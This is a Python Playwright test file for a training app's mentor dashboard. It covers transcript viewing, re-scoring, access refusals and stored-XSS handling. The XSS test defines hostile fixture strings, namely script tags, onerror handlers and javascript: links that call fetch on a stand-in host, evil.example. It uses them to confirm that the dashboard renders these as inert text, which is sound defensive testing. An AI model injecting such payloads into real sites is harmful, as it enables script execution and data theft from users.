"""A mentee's drill transcripts on the mentor dashboard, end to end: the team app as cstrain
serve runs it (uvicorn on a free port, a real SQLite store), attempts sent through the API the
way a learner's browser sends them, and Chromium.

The mentor opens a mentee, reads a transcript (buyer, reply with the red-line hit marked in the
agent's own words, time against time allowed, checkpoints, model reply) and re-scores a turn
(人工复核) with the keyboard; the learner's module status, her drill attempts and the CSV report
then count the mentor's score, and both scores are kept. A mentor of another team gets a 404
from the API and nothing drawn. Stored XSS: HTML, <script> and javascript: in a learner's reply,
name, 工号 and team are shown as text — no element made, no script run (the CSP would report an
inline handler; the test fails on any violation), no request to another host; a 1 MB reply is
refused before it is stored. With CSTRAIN_SHOTS set, screenshots at 390 px and desktop go there
(tests/browser/shots/ when it is 1).
"""
from __future__ import annotations

import csv
from contextlib import closing
import io
import os
import re
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa

from conftest import axe_violations, free_address, serving, watched

DRILL = MODULE = "pre-sales/first-reply"
DESK = {"width": 1280, "height": 900}
PHONE = {"width": 390, "height": 844}
HOSTILE_ID = "KF9<img src=x onerror=alert(1)>"
HOSTILE_NAME = "<script>document.title='pwned'</script><img src=x onerror=\"fetch('http://evil.example/n')\">小赵"
HOSTILE_TEAM = "售前组<b onmouseover=alert(1)>"
XSS_GREETING = ("亲，在的～请问您想要什么颜色、穿几码呢？<img src=x onerror=\"fetch('http://evil.example/i')\">"
                "<script>fetch('http://evil.example/s')</script>")
XSS_OFFSITE = "白色L没货，黑色有 <a href=\"javascript:fetch('http://evil.example/j')\">加我微信</a> javascript:alert(1)"
NEAR_MISS = "白色L码卖光啦，黑的L码有现货，可以吗"  # right, in words the rubric does not list
# pages/team.mjs asks /api/me before anyone signs in; the other team's mentor is refused (404)
EXPECTED = re.compile(r"console error: Failed to load resource: the server responded with a status "
                      r"of (401 \(Unauthorized\)|403 \(Forbidden\)|404 \(Not Found\)|422 \(Unprocessable (Content|Entity)\))")


class Team:
    def __init__(self, base_url, store, catalog, codes):
        self.base_url, self.store, self.catalog, self.codes = base_url, store, catalog, codes

    def client(self, who: str) -> tuple[httpx.Client, dict]:
        client = httpx.Client(base_url=self.base_url)
        me = client.post("/api/signin", json={"code": self.codes[who]}).json()
        return client, {"X-CSRF-Token": me["csrf_token"]}


def send_attempt(team: Team, who: str, replies: list[dict]) -> dict:
    now = datetime.now(timezone.utc)
    client, headers = team.client(who)
    with closing(client):
        response = client.post("/api/drill-attempts", headers=headers, json={
            "id": str(uuid.uuid4()), "drill": DRILL, "version": team.catalog.drills[DRILL].version,
            "module": MODULE, "started_at": (now - timedelta(minutes=1)).isoformat(),
            "submitted_at": now.isoformat(), "replies": replies})
    assert response.status_code == 201, response.text
    return response.json()


@pytest.fixture(scope="module")
def team(tmp_path_factory):
    from cstrain.project import find_project
    from cstrain.scaffold import create_project
    from cstrain.server import auth
    from cstrain.server.app import TeamContext, create_app
    from cstrain.site.build import build_site
    from cstrain.store import open_store
    from cstrain.store.schema import learners

    sock, base_url = free_address()
    root = tmp_path_factory.mktemp("dashdrills") / "training"
    create_project(root)
    # the module's drill alone decides its status here (a module with a quiz needs both passed)
    page = root / "courses/pre-sales/01-first-reply.md"
    page.write_text(page.read_text(encoding="utf-8").replace("quiz: pre-sales/first-reply\n", ""), encoding="utf-8")
    catalog = build_site(find_project(root), root / ".cstrain/team-site", team=True).catalog
    store = open_store(str(root / "team/cstrain.db"))
    now = datetime.now(timezone.utc)
    people = [("S1", "陈主管", "管理组", "supervisor", None),
              ("M1", "李师傅", "售前组", "mentor", None),
              ("M2", "张师傅", "售后组", "mentor", None),
              ("KF1", "王小美", "售前组", "learner", "M1"),
              (HOSTILE_ID, HOSTILE_NAME, HOSTILE_TEAM, "learner", "M1"),
              ("KF3", "赵雪", "售后组", "learner", "M2")]
    with store.write() as conn:
        conn.execute(learners.insert(), [dict(id=i, name=n, team=tm, cohort="2026-10批", role=r, mentor_id=m,
                                              updated_at=now) for i, n, tm, r, m in people])
        invites = auth.issue_invites(conn, ["S1", "M1", "M2", "KF1", "KF3", HOSTILE_ID], "S1")
    codes = {invite.learner_id: invite.code for invite in invites}
    app = create_app(TeamContext(store=store, catalog=catalog, root=root, site_dir=root / ".cstrain/team-site"))
    with serving(app, sock):
        yield Team(base_url.rstrip("/"), store, catalog, codes)
    store.close()


def shots_dir() -> Path | None:
    value = os.environ.get("CSTRAIN_SHOTS")
    if not value:
        return None
    folder = Path(__file__).parent / "shots" if value == "1" else Path(value)
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def sign_in(page, team: Team, who: str) -> None:
    page.goto(f"{team.base_url}/signin/#{team.codes[who]}")
    page.wait_for_url(re.compile(r".*/(dashboard|my-learning)/.*"))


def open_mentee(page, team: Team, learner_id: str) -> None:
    from urllib.parse import quote

    page.goto(f"{team.base_url}/dashboard/#learner/{quote(learner_id, safe='')}")
    page.locator(".cstrain-dash-learner h2").first.wait_for()


def check_axe(page, selector: str) -> None:
    found = axe_violations(page, selector)
    assert not found, found


def shown_text(locator) -> str:
    """The text a sighted reader sees: without the marks' reasons for screen readers."""
    return locator.evaluate("(node) => { const copy = node.cloneNode(true); "
                            "copy.querySelectorAll('.cstrain-sr-only').forEach((e) => e.remove()); "
                            "return copy.textContent; }")


def rows(team: Team, table, **where):
    with team.store.read() as conn:
        query = sa.select(table)
        for column, value in where.items():
            query = query.where(table.c[column] == value)
        return conn.execute(query).all()


def test_a_mentor_reads_a_transcript_and_rescores_a_turn_that_then_counts(browser, team):
    from cstrain.store.schema import drill_rescores, learners

    sent = send_attempt(team, "KF1", [{"text": "亲，在的～请问您想要什么颜色、穿几码呢？", "at": 10},
                                      {"text": NEAR_MISS, "at": 25}])
    assert (sent["passed"], sent["turns"][1]["content"]) == (False, 0)
    before = sent["percent"]
    folder = shots_dir()
    with watched(browser, DESK, EXPECTED) as page:
        sign_in(page, team, "M1")
        open_mentee(page, team, "KF1")
        attempt = page.locator(f".cstrain-dash-drill[data-attempt='{sent['attempt_id']}']")
        summary = attempt.locator("summary")
        summary.wait_for()
        assert "首次回复" in summary.inner_text()
        assert "及格线 75%" in summary.inner_text() and "未通过" in summary.inner_text()
        # keyboard alone: the summary opens the transcript
        summary.focus()
        page.keyboard.press("Enter")
        turn = attempt.locator(".cstrain-dash-drill-turn[data-position='1']")
        turn.wait_for()
        text = turn.inner_text()
        assert "白色L的" in text and NEAR_MISS in text  # the buyer, the reply
        assert "用时 15 秒，限时 60 秒" in text
        assert "漏了 如实说白色 L 码没货" in text and "漏了 推荐有货的黑色 L" in text
        assert "黑色 L 码有现货" in turn.locator(".cstrain-drill-model").inner_text()
        check_axe(page, ".cstrain-dash-drills")

        form = turn.locator("form.cstrain-dash-drill-rescore")
        assert form.get_attribute("aria-label") == "人工复核第 2 轮"
        # a re-score with no comment is refused in place, in Chinese
        form.get_by_role("button", name="保存复核").focus()
        page.keyboard.press("Enter")
        message = form.locator(".cstrain-dash-message")
        assert message.inner_text() == "请写上复核意见：为什么改这一轮的分。"
        assert page.evaluate("document.activeElement.name") == "comment"
        page.keyboard.type("意思对：卖光了就是没货，黑的就是黑色，照满分算内容。")
        content = form.get_by_label("内容分（满分 60）")
        content.focus()
        page.keyboard.press("Control+A")
        page.keyboard.type("60")

        # meanwhile KF1 moves to another mentor: the save is refused (404), said in Chinese
        with team.store.write() as conn:
            conn.execute(learners.update().where(learners.c.id == "KF1").values(mentor_id="M2"))
        form.get_by_role("button", name="保存复核").focus()
        page.keyboard.press("Enter")
        for _ in range(100):  # not wait_for_function: the CSP forbids its string evaluation
            if "不归你带" in message.inner_text():
                break
            page.wait_for_timeout(100)
        assert message.inner_text() == "操作没有成功：找不到这条记录，或者这位学员不归你带。"
        assert not rows(team, drill_rescores)
        with team.store.write() as conn:
            conn.execute(learners.update().where(learners.c.id == "KF1").values(mentor_id="M1"))

        form.get_by_role("button", name="保存复核").focus()
        page.keyboard.press("Enter")
        fresh = page.locator(f".cstrain-dash-drill[data-attempt='{sent['attempt_id']}']")
        fresh.locator(".cstrain-dash-drill-rescores").wait_for()
        assert "已人工复核" in fresh.locator("summary").inner_text()
        assert "100%，及格线 75%（系统评分 70%）" in fresh.locator("summary").inner_text()
        assert "已通过" in fresh.locator("summary").inner_text()
        turn = fresh.locator(".cstrain-dash-drill-turn[data-position='1']")
        assert page.evaluate("document.activeElement.closest('.cstrain-dash-drill-turn').dataset.position") == "1"
        assert "复核后：内容 60 · 速度 20 · 合规 20；系统评分：内容 0 · 速度 20 · 合规 20" in turn.inner_text()
        assert "M1 于" in turn.locator(".cstrain-dash-drill-rescores").inner_text()
        if folder:
            page.screenshot(path=str(folder / "dashboard-drill-desktop.png"), full_page=True)
        check_axe(page, ".cstrain-dash-drills")

    with watched(browser, PHONE, EXPECTED) as phone:
        sign_in(phone, team, "M1")
        open_mentee(phone, team, "KF1")
        attempt = phone.locator(f".cstrain-dash-drill[data-attempt='{sent['attempt_id']}']")
        attempt.locator("summary").click()
        attempt.locator(".cstrain-dash-drill-turn").first.wait_for()
        assert phone.evaluate("document.documentElement.scrollWidth") <= 390
        if folder:
            phone.screenshot(path=str(folder / "dashboard-drill-phone.png"), full_page=True)
        check_axe(phone, ".cstrain-dash-drills")

    # both are kept, and what counts is the mentor's score: the learner's own view, her module
    # status, the report
    (kept,) = rows(team, drill_rescores)
    assert (kept.content, kept.rescored_by) == (60, "M1")
    client, _ = team.client("KF1")
    with closing(client):
        mine = client.get("/api/me/drill-attempts").json()
        (this,) = [a for a in mine if a["attempt_id"] == sent["attempt_id"]]
        assert (this["percent"], this["passed"], this["scorer_percent"], this["scorer_passed"]) == (100, True, before, False)
        (module,) = [m for m in client.get("/api/me/modules").json() if m["module"] == MODULE]
        assert module["state"] == "passed" and module["drill_best_percent"] == 100
    client, _ = team.client("M1")
    with closing(client):
        report = client.get("/api/reports/drill-attempts.csv?bom=false").text
    (line,) = [r for r in csv.DictReader(io.StringIO(report)) if "KF1" in r.values()]
    assert "100" in line.values(), line


def test_a_mentor_of_another_team_gets_nothing(browser, team):
    sent = send_attempt(team, "KF1", [{"text": "亲，在的～请问您想要什么颜色、穿几码呢？", "at": 12}])
    client, headers = team.client("M2")
    with closing(client):
        assert client.get("/api/learners/KF1/drill-attempts").status_code == 404
        refused = client.post(f"/api/drill-attempts/{sent['attempt_id']}/rescores", headers=headers,
                              json={"position": 0, "comment": "不是我的学员", "content": 0})
        assert refused.status_code == 404
    client, headers = team.client("KF1")  # a learner re-scoring her own: 403
    with closing(client):
        assert client.post(f"/api/drill-attempts/{sent['attempt_id']}/rescores", headers=headers,
                           json={"position": 0, "comment": "我觉得满分", "content": 60}).status_code == 403
    with watched(browser, DESK, EXPECTED) as page:
        sign_in(page, team, "M2")
        page.goto(f"{team.base_url}/dashboard/#learner/KF1")
        page.locator(".cstrain-dash-learner .admonition.failure").wait_for()
        assert page.locator(".cstrain-dash-drill, .cstrain-dash-drills").count() == 0
        assert "王小美" not in page.locator("#cstrain-dashboard").inner_text()


def wait_for_text(locator, text: str) -> None:
    for _ in range(100):  # not wait_for_function: the CSP forbids its string evaluation
        if text in locator.inner_text():
            return
        locator.page.wait_for_timeout(100)
    assert text in locator.inner_text()


def test_refusals_are_said_in_chinese(browser, team):
    own = send_attempt(team, "S1", [{"text": "亲，在的～请问您想要什么颜色、穿几码呢？", "at": 9}])
    mentee = send_attempt(team, "KF3", [{"text": "亲，在的～请问您想要什么颜色、穿几码呢？", "at": 11}])
    with watched(browser, DESK, EXPECTED) as page:
        sign_in(page, team, "S1")
        # a supervisor's own practice: nobody re-scores their own attempt (403)
        open_mentee(page, team, "S1")
        form = page.locator(f".cstrain-dash-drill[data-attempt='{own['attempt_id']}'] form")
        page.locator(f".cstrain-dash-drill[data-attempt='{own['attempt_id']}'] summary").click()
        form.get_by_label("复核意见（必填）").fill("自己给自己改分")
        form.get_by_role("button", name="保存复核").click()
        message = form.locator(".cstrain-dash-message")
        wait_for_text(message, "你没有权限")
        assert message.inner_text() == "操作没有成功：你没有权限复核这条记录（自己的练习要请带教复核）。"
        # a comment the server refuses (a control character) is a 422, said in words
        open_mentee(page, team, "KF3")
        attempt = page.locator(f".cstrain-dash-drill[data-attempt='{mentee['attempt_id']}']")
        attempt.locator("summary").click()
        form = attempt.locator("form")
        form.get_by_label("复核意见（必填）").fill("响铃\u0007字符")
        form.get_by_role("button", name="保存复核").click()
        message = form.locator(".cstrain-dash-message")
        wait_for_text(message, "不符合要求")
        assert message.inner_text() == "操作没有成功：复核内容不符合要求：分数要在范围内，复核意见不能为空。"
        # the parts are checked in the browser before anything is sent
        form.get_by_label("复核意见（必填）").fill("速度给满")
        form.get_by_label("速度分（满分 20）").fill("25")
        form.get_by_role("button", name="保存复核").click()
        assert message.inner_text() == "速度分要在 0 到 20 之间。"
        assert page.evaluate("document.activeElement.name") == "speed"


def test_html_in_a_reply_a_name_or_an_id_is_text_and_runs_nothing(browser, team):
    sent = send_attempt(team, HOSTILE_ID, [{"text": XSS_GREETING, "at": 10}, {"text": XSS_OFFSITE, "at": 25}])
    assert sent["turns"][1]["redlines"], "加我微信 is a red line"
    # a 1 MB reply is refused before it is stored, and nothing of it reaches the dashboard
    client, headers = team.client(HOSTILE_ID)
    with closing(client):
        huge = client.post("/api/drill-attempts", headers=headers, json={
            "id": "huge-1", "drill": DRILL, "version": team.catalog.drills[DRILL].version, "module": MODULE,
            "submitted_at": datetime.now(timezone.utc).isoformat(),
            "replies": [{"text": "亲" * 1_000_000, "at": 10}]})
        assert huge.status_code in (413, 422), huge.status_code
        assert len(client.get("/api/me/drill-attempts").json()) == 1
    for viewport in (DESK, PHONE):
        with watched(browser, viewport, EXPECTED) as page:
            sign_in(page, team, "M1")
            page.goto(f"{team.base_url}/dashboard/")
            page.locator(".cstrain-dash-table, .cstrain-dash-people").first.wait_for()
            board = page.locator("#cstrain-dashboard")
            assert "小赵" in board.inner_text()
            assert HOSTILE_NAME in board.inner_text() and HOSTILE_ID in board.inner_text()
            open_mentee(page, team, HOSTILE_ID)
            view = page.locator(".cstrain-dash-learner")
            assert view.locator("h2").first.inner_text().startswith(HOSTILE_NAME)
            attempt = page.locator(f".cstrain-dash-drill[data-attempt='{sent['attempt_id']}']")
            attempt.locator("summary").click()
            replies = attempt.locator(".cstrain-dash-drill-reply")
            replies.nth(1).wait_for()
            assert shown_text(replies.nth(0)) == XSS_GREETING
            assert shown_text(replies.nth(1)) == XSS_OFFSITE
            assert replies.nth(1).locator("mark.cstrain-drill-mark--error").first.inner_text().startswith("加我微信")
            # nothing the learner typed became an element; no script ran
            assert page.locator("#cstrain-dashboard img, #cstrain-dashboard script, #cstrain-dashboard b, "
                                "#cstrain-dashboard a[href^='javascript']").count() == 0
            assert page.title() != "pwned"
            if viewport is PHONE:
                wide = page.evaluate("Array.from(document.querySelectorAll('#cstrain-dashboard *'))"
                                     ".filter((n) => n.scrollWidth > n.clientWidth + 1 && n.clientWidth > 0)"
                                     ".map((n) => n.tagName + '.' + n.className).slice(-3)")
                assert page.evaluate("document.documentElement.scrollWidth") <= 390, wide
